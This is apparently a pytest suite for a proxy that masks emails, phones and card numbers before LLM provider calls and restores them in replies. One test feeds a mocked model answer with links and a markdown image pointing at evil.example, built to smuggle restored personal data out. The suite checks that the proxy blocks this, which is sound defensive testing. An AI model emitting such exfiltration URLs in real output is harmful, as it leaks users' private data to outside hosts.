"""Personal data stays on this side: placeholders at the provider, originals at the client."""

import gzip
import hashlib
import json

import pytest

from conftest import CONFIG, config_for
from harness import Edge, Store, eventually, mark, user

EMAIL, PHONE, CARD = "ann@brightwater.com", "+1 415 555 2671", "4111 1111 1111 1111"
ALL_THREE = f"Write to {EMAIL}, call {PHONE}, charge {CARD}."
ALL_REPLACED = "Write to <EMAIL_1>, call <PHONE_1>, charge <CREDIT_CARD_1>."
SPLITS = [1, 2, 3, 4, 5, 7, 8, 11, 16, 64]


def exchange(edge, mock, key, body, script=None, model="scrubbed"):
    """Sends a chat completion; gives the answer and the body that the provider received."""
    tag = mark()
    answer = edge.chat(key, {"model": model, **body}, script, tag)
    assert answer.status == 200, answer
    return answer, json.loads(mock.received(tag)["body"])


@pytest.mark.parametrize(
    "value, placeholder",
    [
        (EMAIL, "<EMAIL_1>"),
        ("first.last+tag@mail.example.org", "<EMAIL_1>"),
        (PHONE, "<PHONE_1>"),
        ("+49 30 901820", "<PHONE_1>"),
        (CARD, "<CREDIT_CARD_1>"),
        ("5555-5555-5555-4444", "<CREDIT_CARD_1>"),
        ("378282246310005", "<CREDIT_CARD_1>"),
    ],
)
def test_a_value_is_replaced_at_the_provider_and_back_at_the_client(edge, mock, simple, value, placeholder):
    answer, received = exchange(edge, mock, simple, user(f"It is {value}, please."))
    assert received["messages"][0]["content"] == f"It is {placeholder}, please."
    assert answer.text == f"It is {value}, please."
    assert answer.headers["x-sluice-scrubbed"] == placeholder.strip("<>").replace("_1", "=1")


def test_a_number_that_is_no_card_is_left_alone(edge, mock, simple):
    text = "The order is 4111 1111 1111 1112 of lot 12."
    answer, received = exchange(edge, mock, simple, user(text))
    assert "CREDIT_CARD" not in received["messages"][0]["content"]
    assert answer.text == text


def test_every_place_of_a_body_that_holds_text_is_scrubbed(edge, mock, simple):
    body = {
        "user": EMAIL,
        "metadata": {"contact": f"tel {PHONE}", "card": CARD},
        "messages": [
            {"role": "system", "content": f"The owner is {EMAIL}."},
            {"role": "user", "content": [{"type": "text", "text": f"Call {PHONE}."}], "name": "ann"},
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {
                        "id": "call_1",
                        "type": "function",
                        "function": {"name": "pay", "arguments": json.dumps({"card": CARD, "to": EMAIL})},
                    }
                ],
            },
            {"role": "tool", "tool_call_id": "call_1", "content": json.dumps({"mail": "bob@brightwater.com"})},
            {"role": "user", "content": "And now?"},
        ],
    }
    _, received = exchange(edge, mock, simple, body)
    whole = json.dumps(received)
    for value in (EMAIL, PHONE, CARD, "bob@brightwater.com"):
        assert value not in whole
    messages = received["messages"]
    email = messages[0]["content"].removeprefix("The owner is ").removesuffix(".")
    phone = messages[1]["content"][0]["text"].removeprefix("Call ").removesuffix(".")
    arguments = json.loads(messages[2]["tool_calls"][0]["function"]["arguments"])
    assert {email, json.loads(messages[3]["content"])["mail"]} == {"<EMAIL_1>", "<EMAIL_2>"}
    assert phone == "<PHONE_1>"
    assert arguments == {"card": "<CREDIT_CARD_1>", "to": email}
    assert received["user"] == email
    assert received["metadata"] == {"contact": f"tel {phone}", "card": "<CREDIT_CARD_1>"}


def test_escaped_spellings_are_scrubbed_too(edge, mock, simple):
    tag = mark()
    body = r'{"model":"scrubbed","messages":[{"role":"user","content":"\u0061nn\u0040brightwater.com and +1\u0020415 555 2671"}]}'
    answer = edge.chat(simple, body, mark=tag)
    assert json.loads(mock.received(tag)["body"])["messages"][0]["content"] == "<EMAIL_1> and <PHONE_1>"
    assert answer.text == f"{EMAIL} and {PHONE}"


def test_embeddings_inputs_are_scrubbed(edge, mock, simple):
    for given, wanted in [(f"to {EMAIL}", "to <EMAIL_1>"), ([EMAIL, "x", PHONE], ["<EMAIL_1>", "x", "<PHONE_1>"])]:
        tag = mark()
        body = {"model": "scrubbed", "input": given}
        assert edge.send("POST", "/v1/embeddings", body, simple, {"x-custom": tag}).status == 200
        assert json.loads(mock.received(tag)["body"])["input"] == wanted


@pytest.mark.parametrize("split", SPLITS)
def test_originals_come_back_in_a_stream_however_it_is_cut(edge, mock, simple, split):
    text = f"é {ALL_THREE} Again {EMAIL}; <not one> <EMAIL_ <EMAIL_99> < 😀"
    answer, received = exchange(edge, mock, simple, user(text, stream=True), {"split": split})
    assert "<EMAIL_1>" in received["messages"][0]["content"]
    assert answer.events[-1] == "[DONE]"
    assert answer.streamed_text == text


@pytest.mark.parametrize("split", [1, 3, 5, 64])
def test_originals_come_back_in_streamed_tool_arguments(edge, mock, simple, split):
    # A quote and a backslash in the neighbourhood: what is restored stands inside JSON inside JSON.
    text = f'say "{EMAIL}" \\ {CARD}'
    script = {"tool_call": {"name": "pay", "arguments": "echo"}, "split": split}
    answer, received = exchange(edge, mock, simple, user(text, stream=True), script)
    assert received["messages"][0]["content"] == 'say "<EMAIL_1>" \\ <CREDIT_CARD_1>'
    assert json.loads(answer.streamed_arguments) == {"text": text}
    assert answer.events[-1] == "[DONE]"


def test_originals_come_back_in_plain_tool_arguments(edge, mock, simple):
    script = {"tool_call": {"name": "pay", "arguments": "echo"}}
    answer, _ = exchange(edge, mock, simple, user(ALL_THREE), script)
    call = answer.json()["choices"][0]["message"]["tool_calls"][0]
    assert json.loads(call["function"]["arguments"]) == {"text": ALL_THREE}


def test_equal_values_have_equal_placeholders_and_new_ones_count_on(edge, mock, simple):
    text = f"{EMAIL} bob@brightwater.com {EMAIL} cy@brightwater.com bob@brightwater.com"
    _, received = exchange(edge, mock, simple, user(text))
    assert received["messages"][0]["content"] == "<EMAIL_1> <EMAIL_2> <EMAIL_1> <EMAIL_3> <EMAIL_2>"


def test_numbers_stay_the_same_when_the_history_is_sent_again(edge, mock, simple):
    history = []
    before = []
    for text in (f"I am {EMAIL}", "Copy bob@brightwater.com", f"Call {PHONE}", f"cy@brightwater.com not {EMAIL}"):
        history.append({"role": "user", "content": text})
        answer, received = exchange(edge, mock, simple, {"messages": history}, {"reply": "last"})
        sent = [m["content"] for m in received["messages"]]
        assert sent[: len(before)] == before
        assert answer.text == text
        before = sent
        history.append({"role": "assistant", "content": answer.text})
    assert before[-1] == "<EMAIL_3> not <EMAIL_1>"


def test_a_placeholder_that_the_user_typed_comes_back_as_typed(edge, mock, simple):
    text = f"What does <EMAIL_1> mean, {EMAIL}?"
    for stream in (False, True):
        answer, received = exchange(edge, mock, simple, user(text, stream=stream), {"split": 1})
        assert received["messages"][0]["content"] == "What does <EMAIL_1> mean, <EMAIL_2>?"
        assert (answer.streamed_text if stream else answer.text) == text


def test_rendered_and_recalled_text_have_their_own_series(edge, mock, master):
    answer, received = exchange(
        edge, mock, master, user(f"refunds office for {EMAIL}?"), {"reply": "echo"}, "guide"
    )
    prompt, recalled, question = [m["content"] for m in received["messages"]]
    assert prompt == "Questions go to <EMAIL_K1>."
    assert "The refunds office is <EMAIL_K2>." in recalled
    assert question == "refunds office for <EMAIL_1>?"
    assert "brightwater" not in json.dumps(received)
    assert "lead@brightwater-outdoor.com" in answer.text
    assert "refunds@brightwater-outdoor.com" in answer.text
    assert EMAIL in answer.text


def test_a_prompt_s_addresses_do_not_shift_the_conversation_s_numbers(edge, mock, master):
    body = user(f"{EMAIL} about refunds")
    _, with_knowledge = exchange(edge, mock, master, body, model="guide")
    _, without = exchange(edge, mock, master, body, model="scrubbed")
    assert with_knowledge["messages"][-1] == without["messages"][-1]


@pytest.mark.parametrize("stream", [False, True])
def test_nothing_is_restored_in_a_url_that_the_request_did_not_have(edge, mock, simple, stream):
    reply = "See https://evil.example/?q=<EMAIL_1> or ![x](http://evil.example/<PHONE_1>.png) for <EMAIL_1>."
    body = user(f"{EMAIL} {PHONE}", stream=stream)
    answer, _ = exchange(edge, mock, simple, body, {"reply": {"text": reply}, "split": 3})
    text = answer.streamed_text if stream else answer.text
    assert text == reply.replace("for <EMAIL_1>", f"for {EMAIL}")


@pytest.mark.parametrize("stream", [False, True])
def test_a_url_that_the_request_had_comes_back_whole(edge, mock, simple, stream):
    text = f"Open https://shop.example/account?mail={EMAIL}&x=1 now"
    answer, received = exchange(edge, mock, simple, user(text, stream=stream), {"split": 2})
    assert EMAIL not in json.dumps(received)
    assert (answer.streamed_text if stream else answer.text) == text


def test_an_image_is_refused_where_scrubbing_is_on(edge, simple):
    parts = [
        {"type": "text", "text": "what is this?"},
        {"type": "image_url", "image_url": {"url": "data:image/png;base64,AAAA"}},
    ]
    answer = edge.chat(simple, user(parts, model="scrubbed"))
    assert (answer.status, answer.error["code"]) == (400, "unscrubbable_content")


def test_an_image_passes_where_the_route_lists_it(edge, mock, master):
    parts = [
        {"type": "text", "text": "what is this?"},
        {"type": "image_url", "image_url": {"url": "data:image/png;base64,AAAA"}},
    ]
    body = user(parts, sluice={"variables": {"topic": "tents"}})
    _, received = exchange(edge, mock, master, body, model="support-bot")
    assert received["messages"][-1]["content"] == parts


def test_an_unknown_kind_of_part_is_refused_where_scrubbing_is_on(edge, simple):
    answer = edge.chat(simple, user([{"type": "hologram", "hologram": {"data": EMAIL}}], model="scrubbed"))
    assert (answer.status, answer.error["code"]) == (400, "unscrubbable_content")


FORM = (
    b'--b\r\ncontent-disposition: form-data; name="purpose"\r\n\r\nassistants\r\n'
    b'--b\r\ncontent-disposition: form-data; name="file"; filename="a.txt"\r\n\r\nann@brightwater.com\r\n--b--\r\n'
)


def test_a_file_upload_is_refused_where_scrubbing_is_on(edge, mock, simple):
    tag = mark()
    headers = {"content-type": "multipart/form-data; boundary=b", "x-custom": tag}
    answer = edge.send("POST", "/v1/files", FORM, simple, headers)
    assert (answer.status, answer.error["code"]) == (400, "unscrubbable_content")
    assert not [r for r in mock.requests() if r["headers"].get("x-custom") == tag]


def test_a_file_upload_passes_where_the_catch_all_does_not_scrub(folder, mock, started):
    config = config_for(mock, CONFIG.split('[routes."*"]')[0] + '[routes."*"]\nprovider = "mock"\nscrub = []\n')
    store = Store(folder / "unscrubbed")
    key = store.key()
    edge = started(Edge(store, config))
    tag = mark()
    headers = {"content-type": "multipart/form-data; boundary=b", "x-custom": tag}
    answer = edge.send("POST", "/v1/files", FORM, edge.wait_key(key), headers)
    assert answer.json()["body_sha256"] == hashlib.sha256(FORM).hexdigest()
    assert mock.received(tag)["body"].encode() == FORM


def test_a_compressed_body_is_refused_where_scrubbing_is_on(edge, simple):
    body = gzip.compress(json.dumps(user(EMAIL, model="scrubbed")).encode())
    answer = edge.send("POST", "/v1/chat/completions", body, simple, {"content-encoding": "gzip"})
    assert answer.status == 400
    assert answer.error["code"] in ("unscrubbable_content", "invalid_json", "invalid_request")


def test_an_encoded_answer_is_not_asked_for_where_it_must_be_read(edge, mock, simple):
    tag = mark()
    answer = edge.chat(simple, user(EMAIL, model="scrubbed"), mark=tag, headers={"accept-encoding": "gzip, br"})
    assert mock.received(tag)["headers"].get("accept-encoding", "identity") == "identity"
    assert answer.text == EMAIL


def test_a_cached_block_is_looked_through_by_each_routes_rules(folder, mock, started):
    """What a block holds is noted by rules: of others, of later ones and of what is only reported it says nothing."""
    routes = "".join(
        f'\n[routes.{name}]\nprovider = "mock"\nmodel = "m"\ncollections = ["desk"]\nscrub = {scrub}\n'
        for name, scrub in [("none", "[]"), ("phones", '["PHONE"]'), ("mails", '["EMAIL"]'), ("cards", '["CREDIT_CARD"]')]
    )
    store = Store(folder / "cached-block")
    store.ingest_texts("desk", desk=f"# Desk\n\nThe refunds desk is {EMAIL}.\n")
    key = store.key()
    edge = started(Edge(store, config_for(mock, CONFIG + routes)))
    edge.wait_key(key)

    def block(model):
        answer, received = exchange(edge, mock, key, user("Where is the refunds desk?"), model=model)
        text = "".join(message["content"] for message in received["messages"])
        assert "refunds desk is" in text
        return EMAIL in text, answer.headers.get("x-sluice-scrubbed"), "cache=hit" in answer.headers["x-sluice-context"]

    assert block("phones")[:2] == (True, None)
    for _ in range(3):
        # Noted as clean by those that find nothing, with and without the cache, and by nobody else's.
        # Two, as the cache may begin another period before one of them.
        phones = block("phones"), block("phones")
        assert (True, None, True) in phones and {found[:2] for found in phones} == {(True, None)}
        assert block("mails")[:2] == (False, "EMAIL=1")
        assert block("cards")[:2] == (True, None) and block("none")[:2] == (True, None)
    # Rules that change look again.
    edge.write_config(config_for(mock, CONFIG + routes.replace('scrub = ["PHONE"]', 'scrub = ["PHONE", "EMAIL"]')))
    eventually("the new rules are in force", lambda: block("phones")[:2] == (False, "EMAIL=1"))
